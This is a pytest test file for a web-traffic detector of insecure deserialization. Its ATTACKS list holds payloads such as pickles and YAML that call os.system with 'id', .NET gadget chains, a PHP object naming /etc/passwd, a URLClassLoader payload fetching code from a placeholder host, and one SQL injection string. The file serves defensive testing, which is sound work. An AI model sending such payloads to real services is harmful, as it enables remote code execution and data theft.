from __future__ import annotations

import base64

import pytest

from tracehound.detectors.engine import SignatureEngine
from tracehound.detectors.insecure_deserialization import InsecureDeserializationDetector
from tracehound.model import Severity

_PICKLE_P4 = "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="
_VIEWSTATE_GADGET = (
    "/wEy"
    + base64.b64encode(
        b"\x00\x01System.Windows.Data.ObjectDataProvider, PresentationFramework\x00MethodName Start"
    ).decode()
)
_VIEWSTATE_BENIGN = "/wEPDwUKMTIzNDU2Nzg5MGRk" + base64.b64encode(b"\x0f\x05plain page state value").decode()

ATTACKS = [
    # (value, location)
    ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ==", "request.cookie.session"),
    ("aced00057372001d6f72672e6170616368652e636f6d6d6f6e73", "request.body.data"),
    ("%ac%ed%00%05sr%00%11java.util.HashMap", "request.query.obj"),
    (_PICKLE_P4, "request.cookie.session"),
    ("gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXEC", "request.body.state"),
    ("KGRwMApWYQpwMQpJMQpzLg==", "request.cookie.prefs"),
    ("cos\nsystem\n(S'id'\ntR.", "request.body.data"),
    ("c__builtin__\neval\n(Vprint(1)\ntR.", "request.body.data"),
    ("Y29zCnN5c3RlbQooUydpZCcKdFIu", "request.cookie.session"),
    ('O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}', "request.cookie.cart"),
    ('a:1:{i:0;O:+15:"GuzzleHttp\\Psr7":0:{}}', "request.body.data"),
    ("AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I=", "request.body.payload"),
    (_VIEWSTATE_GADGET, "request.body.__VIEWSTATE"),
    ('{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', "request.body"),
    ("!!python/object/apply:os.system ['id']", "request.body.config"),
    ("!!python/object:__main__.Exploit {}", "request.body"),
    ('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]', "request.body"),
    ("--- !ruby/object:Gem::Installer\ni: x", "request.body"),
]

BENIGN = [
    # PHP session data: arrays and strings are what benign PHP cookies hold.
    ('a:2:{i:0;s:5:"apple";i:1;s:6:"banana";}', "request.cookie.cart"),
    ('s:5:"hello";', "request.cookie.pref"),
    ('a:1:{s:4:"lang";s:2:"en";}', "request.cookie.wp_settings"),
    # A declared length that does not match the class name does not unserialize.
    ('O:3:"stdClass":0:{}', "request.cookie.x"),
    # A ViewState is serialized by design: only a gadget type makes it an attack.
    (_VIEWSTATE_BENIGN, "request.body.__VIEWSTATE"),
    ("/wEyABCDEFGHIJKLMNOPQRSTUVWXYZabc", "request.query.path"),
    # Look-alikes: ids, tokens, prose, yaml without object tags.
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", "request.header.authorization"),
    ("AAEAAAD", "request.query.id"),
    ("broO0ABCDE", "request.query.q"),
    ("gAS", "request.query.code"),
    ("cosine\nsystem", "request.body.note"),
    ("tags: !!str 123\nname: x", "request.body"),
    ("ruby/object is a tag name", "request.body.description"),
    ("aced0005", "request.query.hash"),
]


@pytest.mark.parametrize(("value", "location"), ATTACKS)
def test_detects_serialized_objects(scan, value, location):
    assert "insecure_deserialization" in scan(value, location)


@pytest.mark.parametrize(("value", "location"), BENIGN)
def test_ignores_benign_look_alikes(scan, value, location):
    assert "insecure_deserialization" not in scan(value, location)


@pytest.mark.parametrize(("value", "location"), BENIGN[:3])
def test_benign_php_session_data_fires_nothing(scan, value, location):
    # The PHP-serialised cookie of issue 10 was flagged as command_injection (and sqli).
    assert scan(value, location) == set()


def test_sql_inside_php_session_data_still_fires(scan):
    assert "sqli" in scan('a:1:{i:0;s:11:"1\' or 1=1--";}', "request.cookie.cart")


def detections(value, location):
    engine = SignatureEngine(enabled={"insecure_deserialization"})
    from conftest import exchange  # the detector tests' own helper module

    return engine.inspect(exchange([(location, value)]), [(location, value)])


def test_php_object_is_high_and_java_critical():
    php = [d for d in detections('O:8:"stdClass":0:{}', "request.cookie.c") if d.type == "insecure_deserialization"]
    java = [d for d in detections("rO0ABXNyABdqYXZh", "request.cookie.c") if d.type == "insecure_deserialization"]
    assert [d.severity for d in php] == [Severity.HIGH]
    assert [d.severity for d in java] == [InsecureDeserializationDetector.severity] == [Severity.CRITICAL]
